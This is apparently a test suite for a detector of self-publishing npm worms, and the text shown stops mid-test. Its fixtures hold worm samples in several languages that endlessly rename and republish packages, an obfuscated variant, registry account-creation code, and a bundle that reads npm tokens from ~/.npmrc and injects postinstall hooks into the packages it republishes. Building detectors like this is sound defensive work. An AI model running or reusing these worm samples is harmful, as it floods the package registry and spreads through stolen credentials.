import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { analyzeJavaScript, assessObfuscation } from '../../src/analysis/javascript/index.js';
import wormPayload from '../../src/detectors/worm-payload/index.js';
import type { DetectorResult } from '../../src/detectors/types.js';
import { levelForScore, scoreFindings } from '../../src/report/levels.js';
import { renderFinding, sanitizeEvidence } from '../../src/report/findings.js';
import { factsFromFixture, type FixtureFile, type PackageFixture } from '../support/package-fixture.js';
import { hasEncodedBlob, mayHoldSignal, parseNeed } from '../../src/detectors/worm-payload/signals.js';
import { createPackageFiles } from '../../src/package-files/memory.js';

const publisher = { name: 'someone', email: 'someone@example.com' };

function fixture(name: string, files: Record<string, FixtureFile>, manifest: Record<string, unknown> = {}): PackageFixture {
  return {
    name,
    publisher,
    versions: [{ version: '2.3.1', publishedAt: '2025-11-01T00:00:00.000Z', manifest: { description: '', ...manifest }, files }],
  };
}

function run(f: PackageFixture): DetectorResult & { score: number; level: string; ids: string[] } {
  const result = wormPayload.detect({ facts: factsFromFixture(f), options: wormPayload.meta.options.parse({}), now: new Date('2025-11-20') });
  const score = scoreFindings(result.findings.map((x) => x.weight));
  return { ...result, score, level: levelForScore(score), ids: result.findings.map((x) => x.messageId) };
}

const scaffold: Record<string, FixtureFile> = {
  'README.md': 'This is a [Next.js](https://nextjs.org) project bootstrapped with `create-next-app`.\n',
  'app/page.js': 'export default function Home() {\n  return <main>Hello</main>;\n}\n',
  'next.config.mjs': 'const nextConfig = {};\nexport default nextConfig;\n',
};

const variants: [string, string, string][] = [
  [
    'CJS execSync, word-list names, setTimeout recursion',
    'auto.js',
    `const fs = require('fs');
const { execSync } = require('child_process');
const a = ['budi', 'sari', 'tempe', 'seblak'];
const pick = () => a[Math.floor(Math.random() * a.length)];
function go() {
  const p = JSON.parse(fs.readFileSync('./package.json', 'utf8'));
  delete p.private;
  p.name = pick() + '-' + pick() + Math.floor(Math.random() * 99);
  p.version = '1.0.' + Math.floor(Math.random() * 50);
  fs.writeFileSync('./package.json', JSON.stringify(p, null, 2));
  execSync('npm publish --access public');
  setTimeout(go, 9000);
}
go();
`,
  ],
  [
    'spawn through an aliased, destructured child_process in an async while(true)',
    'publishScript.js',
    `const cp = require('child_process');
const { spawn: launch } = cp;
const fs = require('fs');
const path = require('path');
const file = path.join(process.cwd(), 'package.json');
const wait = (ms) => new Promise((r) => setTimeout(r, ms));
function freshName() { return 'pkg' + require('crypto').randomBytes(3).toString('hex'); }
(async () => {
  while (true) {
    const m = JSON.parse(fs.readFileSync(file, 'utf8'));
    m.name = freshName();
    fs.writeFileSync(file, JSON.stringify(m));
    await new Promise((done) => launch('npm', ['publish'], { stdio: 'inherit' }).on('close', done));
    await wait(60000);
  }
})();
`,
  ],
  [
    'ESM namespace import, concatenated command, setInterval',
    'index.js',
    `import * as proc from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
const digit = () => 1 + Math.floor(Math.random() * 5);
setInterval(() => {
  const manifest = JSON.parse(readFileSync('package.json', 'utf8'));
  manifest.private = false;
  manifest.version = [digit(), digit(), digit()].join('.');
  writeFileSync('package.json', JSON.stringify(manifest));
  proc.exec('np' + 'm pub' + 'lish');
}, 7000);
`,
  ],
  [
    'execFile with a built argv array in a counted batch loop',
    'lib/batch.cjs',
    `var childProcess = require('child_process');
var fs = require('fs');
var verb = ['pub', 'lish'].join('');
for (var i = 0; i < 500; i++) {
  var pkg = JSON.parse(fs.readFileSync(__dirname + '/../package.json'));
  pkg.name = 'tea-' + i + '-' + Date.now().toString(36);
  pkg.version = '0.0.' + i;
  fs.writeFileSync(__dirname + '/../package.json', JSON.stringify(pkg));
  childProcess.execFileSync('npm', [verb, '--access=public']);
}
`,
  ],
  [
    'zx tagged template in for(;;) with a spread rewrite',
    'scripts/release.mjs',
    `import { $ } from 'zx';
import { readFile, writeFile } from 'node:fs/promises';
const syllables = ['ka', 'lo', 'mi', 'ru', 'te'];
const word = () => Array.from({ length: 3 }, () => syllables[Math.floor(Math.random() * syllables.length)]).join('');
for (;;) {
  const meta = JSON.parse(await readFile('./package.json', 'utf8'));
  const next = { ...meta, name: word() + '-' + word(), version: '1.0.0' };
  await writeFile('./package.json', JSON.stringify(next, null, 2));
  await $\`npm publish\`;
}
`,
  ],
  [
    'require of a concatenated module name, template-literal command, promise recursion',
    'run.js',
    `const m = require('child' + '_process');
const fsp = require('fs').promises;
const bin = 'npm';
let n = 0;
async function main() {
  const raw = await fsp.readFile('package.json', 'utf8');
  const pkg = JSON.parse(raw);
  pkg.name = \`nova-sync-\${Math.random().toString(36).slice(2, 7)}\`;
  await fsp.writeFile('package.json', JSON.stringify(pkg));
  m.execSync(\`\${bin} publish --tag latest\`);
  n++;
  return new Promise((r) => setTimeout(r, 5000)).then(main);
}
main();
`,
  ],
  [
    'child_process name hidden in base64',
    'worker.js',
    `const runner = require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString());
const fs = require('fs');
setInterval(function () {
  const j = JSON.parse(fs.readFileSync('package.json'));
  j.version = Math.ceil(Math.random() * 5) + '.' + Math.ceil(Math.random() * 5) + '.' + Math.ceil(Math.random() * 5);
  j.private = undefined;
  fs.writeFileSync('package.json', JSON.stringify(j));
  runner.execSync('npm publish');
}, 8000);
`,
  ],
];

const shellWorm = `#!/bin/bash
# republish forever
while true; do
  n=$RANDOM
  npm pkg set name="rendang-kuy$n" version="1.$((RANDOM % 5)).$((RANDOM % 5))"
  npm pkg delete private
  npm publish --access public
  sleep 8
done
`;

describe('worm-payload: self-publishing engines reach high on their own', () => {
  it.each(variants)('%s', (_label, file, code) => {
    const r = run(fixture('x-' + file.replace(/\W/g, ''), { ...scaffold, [file]: code }));
    const finding = r.findings.find((x) => x.messageId === 'selfPublishing');
    expect(finding, JSON.stringify(r.findings, null, 1)).toBeDefined();
    expect(finding!.evidence.file).toBe(file);
    expect(finding!.evidence.analysis).toBe('ast');
    expect(finding!.evidence.repetition).not.toBeNull();
    expect(r.score).toBeGreaterThanOrEqual(70);
  });

  it('the shell-script form', () => {
    const r = run(fixture('shell-worm', { ...scaffold, 'publish.sh': shellWorm }));
    const finding = r.findings.find((x) => x.messageId === 'selfPublishing')!;
    expect(finding.evidence).toMatchObject({ file: 'publish.sh', line: 7, analysis: 'shell' });
    expect(finding.data?.traits).toMatch(/changes the package name/);
    expect(finding.data?.traits).toMatch(/repeats/);
    expect(r.score).toBeGreaterThanOrEqual(70);
  });

  it('PowerShell, batch and Python forms', () => {
    const ps1 = '$words = @("soto", "bakso", "cilok")\nwhile ($true) {\n  $pkg = Get-Content package.json | ConvertFrom-Json\n  $pkg.name = "$(Get-Random -InputObject $words)-$(Get-Random -Maximum 99)"\n  $pkg | ConvertTo-Json | Set-Content package.json\n  npm publish --access public\n  Start-Sleep -Seconds 8\n}\n';
    const bat = '@echo off\n:loop\nnpm pkg set name=pkg%RANDOM%\nnpm publish\ntimeout /t 8\ngoto loop\n';
    const py = "import json, random, subprocess, time\nwhile True:\n    pkg = json.load(open('package.json'))\n    pkg['name'] = 'nasi-' + random.choice(['goreng', 'uduk']) + str(random.randint(1, 99))\n    json.dump(pkg, open('package.json', 'w'))\n    subprocess.run(['npm', 'publish'])\n    time.sleep(8)\n";
    for (const [file, code] of [['publish.ps1', ps1], ['run.bat', bat], ['bot.py', py]] as const) {
      const r = run(fixture('x', { ...scaffold, [file]: code }));
      const finding = r.findings.find((x) => x.messageId === 'selfPublishing');
      expect(finding?.evidence.file, file).toBe(file);
      expect(finding?.data?.traits, file).toMatch(/changes the package name.*repeats/);
      expect(r.score, file).toBeGreaterThanOrEqual(70);
    }
  });

  it('shows each trait with its own line', () => {
    const r = run(fixture('lines', { ...scaffold, 'auto.js': variants[0]![2] }));
    const e = r.findings[0]!.evidence;
    expect(e).toMatchObject({ line: 11, nameChange: { line: 8 }, privateChange: { line: 7 }, manifestRewrite: { line: 10 }, repetition: { kind: 'recursion' } });
    expect((e.randomValues as { line: number }).line).toBe(8);
  });

  it('an engine an install hook runs is critical', () => {
    const r = run(fixture('hooked', { ...scaffold, 'auto.js': variants[0]![2] }, { scripts: { postinstall: 'node auto.js' } }));
    expect(r.ids).toContain('installTimeExecution');
    expect(r.level).toBe('critical');
  });

  it('`npm publish` in an install hook itself escalates too', () => {
    const r = run(fixture('hook-publish', { 'index.js': 'module.exports = 1;\n', 'bump.js': variants[2]![2] }, { scripts: { postinstall: 'npm version patch && npm publish' } }));
    expect(r.ids).toContain('installTimeExecution');
  });

  it('an engine split over two local modules is one engine', () => {
    const r = run(fixture('split', {
      ...scaffold,
      'bin/start.js': "const { execSync } = require('child_process');\nconst { renew } = require('../lib/manifest');\nwhile (true) {\n  renew();\n  execSync('npm publish');\n}\n",
      'lib/manifest.js': "const fs = require('fs');\nexports.renew = function renew() {\n  const pkg = JSON.parse(fs.readFileSync('package.json', 'utf8'));\n  pkg.name = 'p' + Math.random().toString(36).slice(2);\n  fs.writeFileSync(new URL('../package.json', import.meta.url), JSON.stringify(pkg));\n};\n",
    }));
    const finding = r.findings.find((x) => x.messageId === 'selfPublishing')!;
    expect(finding.evidence).toMatchObject({ file: 'bin/start.js', line: 5, manifestRewrite: { file: 'lib/manifest.js', line: 5 }, nameChange: { file: 'lib/manifest.js', line: 4 } });
    expect(r.score).toBeGreaterThanOrEqual(70);
  });

  it('a token-stealing worm that injects a postinstall into the packages it republishes', () => {
    const bundle = `const fs = require('fs');
const os = require('os');
const path = require('path');
const { execSync } = require('child_process');
const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
const token = (npmrc.match(/_authToken=(.+)/) || [])[1] || process.env.NPM_TOKEN;
async function infect(dir) {
  const file = path.join(dir, 'package.json');
  const pkg = JSON.parse(fs.readFileSync(file, 'utf8'));
  pkg.scripts = pkg.scripts || {};
  pkg.scripts.postinstall = 'node bundle.js';
  pkg.version = pkg.version.replace(/\\d+$/, (p) => String(Number(p) + 1));
  fs.copyFileSync(__filename, path.join(dir, 'bundle.js'));
  fs.writeFileSync(file, JSON.stringify(pkg, null, 2));
  execSync('npm publish', { cwd: dir, env: { ...process.env, NPM_TOKEN: token } });
}
module.exports = infect;
`;
    const alone = run(fixture('stealer', { 'bundle.js': bundle, 'index.js': 'module.exports = 1;\n' }));
    const finding = alone.findings.find((x) => x.messageId === 'selfPublishing')!;
    expect(finding.data?.traits).toMatch(/injects an install hook/);
    expect(finding.evidence.lifecycleInjection).toMatchObject({ line: 11 });
    expect(alone.ids).toContain('registryManipulation');
    expect(alone.score).toBeGreaterThanOrEqual(70);
    const hooked = run(fixture('stealer-hooked', { 'bundle.js': bundle }, { scripts: { postinstall: 'node bundle.js' } }));
    expect(hooked.level).toBe('critical');
  });

  it('falls back to token search for a file that does not parse, and says so', () => {
    const typed = `import { execSync } from 'child_process';\nimport * as fs from 'fs';\nconst pkg: { name: string; version: string } = JSON.parse(fs.readFileSync('package.json', 'utf8'));\nwhile (true) {\n  pkg.name = 'n' + Math.random();\n  fs.writeFileSync('package.json', JSON.stringify(pkg));\n  execSync('npm publish');\n}\n`;
    const r = run(fixture('typed', { ...scaffold, 'auto.ts': typed }));
    const finding = r.findings.find((x) => x.messageId === 'selfPublishing')!;
    expect(String(finding.evidence.analysis)).toMatch(/^token-search \(parse failed/);
    expect(r.score).toBeGreaterThanOrEqual(70);
  });
});

describe('worm-payload: registry manipulation and obfuscation', () => {
  const accountMaker = `const https = require('https');
const fs = require('fs');
const os = require('os');
const npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
function createUser(name) {
  const body = JSON.stringify({ _id: 'org.couchdb.user:' + name, name, password: Math.random().toString(36), email: name + '@mail.example', type: 'user' });
  const req = https.request({ host: 'registry.npmjs.org', path: '/-/user/org.couchdb.user:' + name, method: 'PUT', headers: { 'content-type': 'application/json' } });
  req.end(body);
}
createUser('u' + Date.now());
`;

  it('reports account creation, registry PUT and token reads with their lines', () => {
    const r = run(fixture('acct', { 'index.js': 'module.exports = {};\n', 'tools/user.js': accountMaker }));
    const finding = r.findings.find((x) => x.messageId === 'registryManipulation')!;
    expect(finding.data?.parts).toMatch(/account-creation/);
    expect(finding.data?.parts).toMatch(/token-read/);
    expect(finding.data?.parts).toMatch(/registry-put/);
    expect(finding.weight).toBe(40);
    expect(r.level).toBe('medium');
  });

  it('registry code reached from an install hook is critical with an engine, high alone', () => {
    const r = run(fixture('acct-hook', { 'tools/user.js': accountMaker }, { scripts: { preinstall: 'node tools/user.js' } }));
    expect(r.ids).toContain('installTimeExecution');
    expect(r.score).toBeGreaterThanOrEqual(70);
  });

  it('obfuscation around an engine amplifies it; alone in a tiny package it is packed code', () => {
    const packed = `var _0xa1b2=['\\x6e\\x70\\x6d\\x20\\x70\\x75\\x62\\x6c\\x69\\x73\\x68'];var _0xc3d4=function(_0xe5f6){return _0xa1b2[_0xe5f6];};var _0x1a2b=require('child_process');var _0x3c4d=require('fs');var _0x5e6f=JSON.parse(_0x3c4d.readFileSync('package.json'));var _0x7a8b=0;var _0x9c0d=1;var _0x2e3f=2;_0x5e6f.name='a'+Math.random();_0x3c4d.writeFileSync('package.json',JSON.stringify(_0x5e6f));setInterval(function(){_0x1a2b.execSync('npm publish');},9000);eval(Buffer.from('MQ==','base64').toString());`;
    const engine = run(fixture('obf-engine', { 'index.js': packed }));
    expect(engine.ids).toEqual(expect.arrayContaining(['selfPublishing', 'obfuscatedPayload']));
    const alone = run(fixture('obf-alone', { 'index.js': `var _0xa1b2=['\\x61\\x62\\x63\\x64\\x65\\x66\\x67'];var _0x1f1=1,_0x2f2=2,_0x3f3=3,_0x4f4=4,_0x5f5=5,_0x6f6=6,_0x7f7=7,_0x8f8=8;module.exports=_0xa1b2[0]+_0x1f1+_0x2f2+_0x3f3+_0x4f4+_0x5f5+_0x6f6+_0x7f7+_0x8f8;` }));
    expect(alone.ids).toEqual(['packedCode']);
    expect(alone.score).toBeLessThan(40);
  });
});

// Release tooling: real modules with exports, publish driven by arguments, versions bumped once, names untouched.
const semanticReleaseLike: Record<string, FixtureFile> = {
  'index.js': `const verifyNpm = require('./lib/verify');
const prepareNpm = require('./lib/prepare');
const publishNpm = require('./lib/publish');
let verified = false;
let prepared = false;
async function verifyConditions(pluginConfig, context) {
  await verifyNpm(pluginConfig, context);
  verified = true;
}
async function prepare(pluginConfig, context) {
  if (!verified) await verifyNpm(pluginConfig, context);
  await prepareNpm(pluginConfig, context);
  prepared = true;
}
async function publish(pluginConfig, context) {
  if (!prepared) await prepareNpm(pluginConfig, context);
  return publishNpm(pluginConfig, context);
}
module.exports = { verifyConditions, prepare, publish };
`,
  'lib/prepare.js': `const path = require('path');
const execa = require('execa');
module.exports = async function prepare({ pkgRoot }, { cwd, env, nextRelease: { version }, logger }) {
  const basePath = pkgRoot ? path.resolve(cwd, String(pkgRoot)) : cwd;
  logger.log('Write version %s to package.json in %s', version, basePath);
  await execa('npm', ['version', version, '--userconfig', path.join(basePath, '.npmrc'), '--no-git-tag-version', '--allow-same-version'], { cwd: basePath, env });
};
`,
  'lib/publish.js': `const path = require('path');
const execa = require('execa');
const getRegistry = require('./get-registry');
module.exports = async function publish({ npmPublish, pkgRoot }, pkg, context) {
  const { cwd, env, nextRelease: { version, channel }, logger } = context;
  if (npmPublish === false || pkg.private === true) {
    logger.log('Skip publishing to npm registry as npmPublish is false or package.json private property is true');
    return false;
  }
  const basePath = pkgRoot ? path.resolve(cwd, pkgRoot) : cwd;
  const registry = getRegistry(pkg, context);
  const distTag = channel || 'latest';
  logger.log('Publishing version %s to npm registry on dist-tag %s', version, distTag);
  await execa('npm', ['publish', basePath, '--tag', distTag, '--registry', registry], { cwd, env });
  return { name: 'npm package (@' + distTag + ' dist-tag)', url: 'https://www.npmjs.com/package/' + pkg.name };
};
`,
  'lib/verify.js': `const AggregateError = require('aggregate-error');
module.exports = async function verify(pluginConfig, context) {
  const errors = [];
  if (pluginConfig.npmPublish !== undefined && typeof pluginConfig.npmPublish !== 'boolean') errors.push(new Error('EINVALIDNPMPUBLISH'));
  if (errors.length > 0) throw new AggregateError(errors);
};
`,
  'lib/get-registry.js': `module.exports = ({ publishConfig: { registry } = {}, name }, { cwd, env }) => registry || env.NPM_CONFIG_REGISTRY || 'https://registry.npmjs.org/';
`,
  'README.md': '# release-npm-plugin\n\nPublish a npm package with `npm publish` as part of your release.\n\n| Step | Description |\n|---|---|\n| `prepare` | Update the package.json version |\n| `publish` | Publish the package on the npm registry |\n',
};

const changesetsLike: Record<string, FixtureFile> = {
  'dist/index.cjs': `'use strict';
const fs = require('fs/promises');
const path = require('path');
const { spawn } = require('child_process');
function run(cmd, args, cwd) {
  return new Promise((resolve, reject) => {
    const child = spawn(cmd, args, { cwd, stdio: 'inherit' });
    child.on('close', (code) => (code === 0 ? resolve() : reject(new Error(cmd + ' exited with ' + code))));
  });
}
async function applyReleasePlan(releases, packages) {
  for (const release of releases) {
    const pkg = packages.find((p) => p.packageJson.name === release.name);
    if (!pkg) continue;
    const json = { ...pkg.packageJson, version: release.newVersion };
    await fs.writeFile(path.join(pkg.dir, 'package.json'), JSON.stringify(json, null, 2) + '\\n');
  }
}
async function publishPackages({ packages, tag, access }) {
  const publishable = packages.filter((p) => !p.packageJson.private);
  return Promise.all(publishable.map((pkg) => run('npm', ['publish', '--tag', tag, '--access', access], pkg.dir).then(() => pkg.packageJson.name)));
}
exports.applyReleasePlan = applyReleasePlan;
exports.publishPackages = publishPackages;
`,
  'bin.js': "#!/usr/bin/env node\nrequire('./dist/cli.cjs');\n",
  'dist/cli.cjs': `'use strict';
const { applyReleasePlan, publishPackages } = require('./index.cjs');
const [, , command, ...args] = process.argv;
const tag = args.includes('--tag') ? args[args.indexOf('--tag') + 1] : 'latest';
if (command === 'publish') publishPackages({ packages: [], tag, access: 'public' }).then((names) => console.log(names.join('\\n')));
else if (command === 'version') applyReleasePlan([], []);
else console.error('usage: release <version|publish>');
`,
  'README.md': '# monorepo-release\n\nVersion and publish the packages of a monorepo. `release publish` runs `npm publish` for each changed package.\n',
};

const publishLibraryLike: Record<string, FixtureFile> = {
  'lib/index.js': `'use strict';
const { fetch } = require('./fetch');
const ssri = require('ssri');
async function publish(manifest, tarballData, opts = {}) {
  const registry = opts.registry || 'https://registry.npmjs.org/';
  const spec = encodeURIComponent(manifest.name);
  const integrity = ssri.fromData(tarballData, { algorithms: ['sha512'] });
  const body = {
    _id: manifest.name,
    name: manifest.name,
    'dist-tags': { [opts.defaultTag || 'latest']: manifest.version },
    versions: { [manifest.version]: { ...manifest, dist: { integrity: integrity.toString() } } },
    _attachments: { [manifest.name + '-' + manifest.version + '.tgz']: { content_type: 'application/octet-stream', data: tarballData.toString('base64'), length: tarballData.length } },
  };
  return fetch(registry + spec, { method: 'PUT', body, token: opts.token });
}
module.exports = { publish };
`,
  'lib/fetch.js': `'use strict';
const https = require('https');
exports.fetch = function fetch(url, { method, body, token }) {
  return new Promise((resolve, reject) => {
    const req = https.request(url, { method, headers: { authorization: token ? 'Bearer ' + token : undefined, 'content-type': 'application/json' } }, resolve);
    req.on('error', reject);
    req.end(JSON.stringify(body));
  });
};
`,
  'README.md': '# publish-client\n\nProgrammatic `npm publish`: `await publish(manifest, tarball, { token })`.\n',
};

const docsOnly: Record<string, FixtureFile> = {
  'index.js': 'module.exports = function add(a, b) { return a + b; };\n',
  'README.md': '# adder\n\n## Releasing\n\n1. `npm version patch`\n2. `npm publish`\n\nRun `npm publish --dry-run` first to see what would ship.\n',
  'docs/RELEASING.md': 'To release, bump the version in package.json and run npm publish from a clean checkout.\n',
};

const legitimate: [string, Record<string, FixtureFile>, Record<string, unknown>][] = [
  ['semantic-release-like npm plugin', semanticReleaseLike, { main: 'index.js', dependencies: { execa: '^5.0.0', 'aggregate-error': '^3.0.0' } }],
  ['changesets-like monorepo publisher', changesetsLike, { main: 'dist/index.cjs', bin: { release: 'bin.js' } }],
  ['np-like CLI shipping a one-off release script', {
    'source/cli.js': "#!/usr/bin/env node\nimport meow from 'meow';\nimport np from './index.js';\nconst cli = meow('Usage: np <version>', { importMeta: import.meta, flags: { tag: { type: 'string' }, preview: { type: 'boolean' } } });\nawait np(cli.input[0], cli.flags);\n",
    'source/index.js': "import { execa } from 'execa';\nimport { readPackage } from 'read-pkg';\nexport default async function np(input = 'patch', { tag, preview } = {}) {\n  const pkg = await readPackage();\n  await execa('npm', ['version', input]);\n  if (preview) return pkg;\n  await execa('npm', ['publish', ...(tag ? ['--tag', tag] : [])]);\n  await execa('git', ['push', '--follow-tags']);\n  return pkg;\n}\n",
    'readme.md': '# np\n\n> A better `npm publish`\n',
  }, { type: 'module', bin: { np: 'source/cli.js' }, exports: './source/index.js' }],
  ['programmatic publish library (PUT to the registry)', publishLibraryLike, { main: 'lib/index.js', dependencies: { ssri: '^10.0.0' } }],
  ['a shipped npm-release.sh (checks npm whoami, npm version, git tag/push, npm publish)', {
    'index.js': 'module.exports = function watch() {};\n',
    'scripts/release.sh': '#!/usr/bin/env bash\nrun() {\n  local version=$1\n  git fetch\n  if [[ -n $(git status --porcelain) ]]; then exit 1; fi\n  local npm_user=$(npm whoami)\n  local is_owner=$(npm owner ls | grep ".*$npm_user <.*")\n  npm version ${version}\n  git push origin master --follow-tags\n  npm publish\n}\nrun "$1"\n',
  }, { main: 'index.js' }],
  ['docs and README that mention npm publish', docsOnly, { main: 'index.js', scripts: { release: 'npm version patch && npm publish' } }],
];

describe('worm-payload: legitimate code that publishes on purpose stays low', () => {
  it.each(legitimate)('%s', (_label, files, manifest) => {
    const r = run(fixture('legit', files, manifest));
    expect(r.score, JSON.stringify(r.findings, null, 1)).toBeLessThan(10);
    expect(r.findings.some((f) => f.messageId === 'installTimeExecution')).toBe(false);
  });

  it('still notes that release tooling runs npm publish (weight, not silence)', () => {
    const r = run(fixture('legit', changesetsLike, { main: 'dist/index.cjs' }));
    expect(r.findings.find((f) => f.messageId === 'selfPublishing')?.data?.traits).toMatch(/exported release API/);
    const split = run(fixture('legit', semanticReleaseLike, { main: 'index.js' }));
    expect(split.findings.find((f) => f.messageId === 'publishCommand')?.evidence.file).toBe('lib/publish.js');
  });

  it('a worm trait in release tooling structure still counts: renaming packages is not release work', () => {
    const renamed = { ...changesetsLike, 'dist/index.cjs': String(changesetsLike['dist/index.cjs']).replace('version: release.newVersion', "name: 'x' + Math.random(), version: release.newVersion") };
    expect(run(fixture('legit', renamed, {})).score).toBeGreaterThanOrEqual(40);
  });
});

describe('worm-payload: missing facts and caps', () => {
  it('reports unavailable when the tarball was not read', () => {
    const facts = factsFromFixture(fixture('x', { 'auto.js': variants[0]![2] }));
    const r = wormPayload.detect({ facts: { ...facts, files: undefined }, options: wormPayload.meta.options.parse({}), now: new Date() });
    expect(r.findings).toEqual([]);
    expect(r.unavailable?.[0]?.signal).toBe('worm-payload');
  });

  it('file names with control characters come out clean where the report is built', () => {
    const r = run(fixture('ansi-name', { 'auto\u001b[31m\u202e.js': variants[0]![2] }));
    expect(r.findings.length).toBeGreaterThan(0);
    // The detector reports what it saw; the report strips it once (src/report/findings.ts).
    const reported = r.findings.map((f) => ({ message: renderFinding(wormPayload.meta.messages[f.messageId], f), evidence: sanitizeEvidence(f.evidence) }));
    for (const f of reported) expect(JSON.stringify(f)).not.toMatch(/[\u001b\u202e]/);
    expect(reported[0]!.evidence.file).toBe('auto.js');
  });

  it('stops at the file cap and says how many files were left unread', () => {
    const files: Record<string, FixtureFile> = {};
    for (let i = 0; i < 12; i++) files[`lib/f${i}.js`] = `module.exports = ${i};\n`;
    const facts = factsFromFixture(fixture('many', files));
    const r = wormPayload.detect({ facts, options: wormPayload.meta.options.parse({ maxFiles: 5 }), now: new Date() });
    expect(r.unavailable?.find((u) => u.signal === 'code files')?.reason).toMatch(/^7 code files not read/);
  });

  it('a prefix kept from a larger file is token-searched, and the evidence says so', () => {
    const facts = factsFromFixture(fixture('big-bundle', { 'dist/bundle.js': variants[0]![2] }));
    const files = facts.files!;
    const limits = [{ kind: 'file-too-large' as const, path: 'dist/bundle.js', message: 'dist/bundle.js: 5 MiB, only the first 1 MiB was kept' }];
    const texts = new Map(files.textPaths().map((p) => [p, files.readText(p)!]));
    const r = wormPayload.detect({ facts: { ...facts, files: createPackageFiles(files.entries, texts, limits) }, options: wormPayload.meta.options.parse({}), now: new Date() });
    const finding = r.findings.find((x) => x.messageId === 'selfPublishing')!;
    expect(String(finding.evidence.analysis)).toMatch(/^token-search \(only the first \d+ characters of a larger file/);
    expect(r.unavailable?.map((u) => u.signal)).toContain('code in dist/bundle.js');
  });
});

describe('worm-payload: token search of a large bundle', () => {
  it('a loop far from a publish command read in documentation text does not make it repeated (rulesync 17.0.0)', () => {
    const prose = `const docs = { "permissions": "an \\\`ask\\\` on \\\`npm publish\\\` withholds an allowed \\\`npm *\\\`" };\n`;
    const bundle = `const { spawn } = require('child_process');\n${prose}${'const x = 1;\n'.repeat(200)}setInterval(() => refresh(), 1000);\n`;
    const facts = factsFromFixture(fixture('cli-bundle', { 'dist/cli/index.cjs': bundle }));
    const files = facts.files!;
    const limits = [{ kind: 'file-too-large' as const, path: 'dist/cli/index.cjs', message: 'dist/cli/index.cjs: 3 MiB, only the first 1 MiB was kept' }];
    const texts = new Map(files.textPaths().map((p) => [p, files.readText(p)!]));
    const r = wormPayload.detect({ facts: { ...facts, files: createPackageFiles(files.entries, texts, limits) }, options: wormPayload.meta.options.parse({}), now: new Date() });
    expect(r.findings.find((x) => x.messageId === 'publishCommand')?.weight ?? 0).toBeLessThan(20);
  });
});

describe('worm-payload: the pre-filter that spares ordinary modules a parse', () => {
  it('lets every engine and obfuscation form through', () => {
    const forms = [
      ...variants.map(([, , code]) => code),
      "const m = require(['chi', 'ld_pro', 'cess'].join(''));\nm.execSync(['npm', 'pub' + 'lish'].join(' '));\n",
      "global['ev' + 'al'](atob('Y29uc29sZS5sb2coMSk='));\n",
      "var _0x1a2b = ['x'], _0x3c4d = _0x1a2b[0];\n",
      "module.exports = '\\x68\\x65\\x6c\\x6c\\x6f';\n",
      "fetch('https://registry.npmjs.org/-/user/org.couchdb.user/a', { method: 'PUT' });\n",
      `eval(${JSON.stringify('A'.repeat(1200))});\n`,
    ];
    for (const code of forms) expect(mayHoldSignal(code), code).toBe(true);
  });

  it('skips ordinary module code, minified or not', () => {
    const ordinary = [
      "'use strict';\nconst path = require('path');\nmodule.exports = function resolve(a, b) {\n  return /^\\w+$/.test(a) ? path.join(a, b) : b;\n};\n",
      'import { a } from "./a.js";\nexport default function f(x){return x.map(a).filter(Boolean)}\n',
      '!function(e,t){"object"==typeof exports?module.exports=t():e.x=t()}(this,function(){return function(n){return n+1}});\n',
      // A few escapes among ordinary strings (a unicode table, a regex source) are not escape-encoded text.
      "const dash = '\\u2014';\nconst words = ['alpha', 'beta', 'gamma', 'delta', 'epsilon', 'zeta'];\nmodule.exports = { dash, words, re: /[\\u0300-\\u036f]/g };\n",
    ];
    for (const code of ordinary) expect(mayHoldSignal(code), code).toBe(false);
  });

  it('never skips a file the parse would call escape-obfuscated', () => {
    const escape = (text: string) => [...text].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
    const literal = fc.record({ text: fc.stringMatching(/^[a-z ]{1,24}$/), escaped: fc.boolean(), quote: fc.constantFrom("'", '"') });
    fc.assert(
      fc.property(fc.array(literal, { minLength: 1, maxLength: 30 }), fc.stringMatching(/^[a-z '"]{0,200}$/), (literals, comment) => {
        const items = literals.map(({ text, escaped, quote }) => `${quote}${escaped ? escape(text) : text}${quote}`);
        const source = `// ${comment}\n/* ${comment} */\nvar table = [${items.join(', ')}];\nmodule.exports = function pick(i) { return table[i % table.length]; };\n`;
        const obfuscated = assessObfuscation(analyzeJavaScript(source)).obfuscated;
        if (obfuscated) expect(mayHoldSignal(source), source).toBe(true);
      }),
      { numRuns: 300 },
    );
  });

  it('finds an encoded blob exactly where the pattern over the whole text does, reading long lines only', () => {
    const wholeText = /[A-Za-z0-9+/]{1000}|[0-9a-fA-F]{1000}/;
    const piece = fc.oneof(
      fc.constantFrom('\n', '\r\n', ' ', ';', 'eval(', '"'),
      fc.record({ char: fc.constantFrom('A', 'f', '0', '+', 'z'), length: fc.integer({ min: 990, max: 1010 }) }).map(({ char, length }) => char.repeat(length)),
      fc.stringMatching(/^[A-Za-z0-9+/ ]{0,40}$/),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        const source = pieces.join('');
        expect(hasEncodedBlob(source), JSON.stringify(source.slice(0, 80))).toBe(wholeText.test(source));
      }),
      { numRuns: 400 },
    );
    expect(hasEncodedBlob(`x\n${'A'.repeat(999)}\n${'A'.repeat(999)}`)).toBe(false);
    expect(hasEncodedBlob(`x\n${'0f'.repeat(500)}`)).toBe(true);
  });

  it('parses hinted files smallest first within the package budget and reports the rest', () => {
    const hex = (text: string) => [...text].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('');
    const packed = `module.exports = ['${hex('the quick brown fox jumps over the lazy dog '.repeat(6))}'];\n`;
    const files = { 'lib/run.js': "const cp = require('child_process');\nmodule.exports = (c) => cp.execSync(c);\n", 'lib/packed.js': packed };
    const roomy = run(fixture('budget', files));
    expect(roomy.findings.map((f) => f.evidence.file)).toContain('lib/packed.js');
    const facts = factsFromFixture(fixture('budget', files));
    const tight = wormPayload.detect({ facts, options: wormPayload.meta.options.parse({ maxHintParseBytesPerPackage: 200 }), now: new Date() });
    expect(tight.findings).toEqual([]);
    expect(tight.unavailable?.find((u) => u.signal === 'obfuscation and built commands')?.reason).toMatch(/^1 larger code files \(\d+ bytes\) not parsed/);
    // Files that name publishing are parsed whatever the budget: an engine is never left to token search.
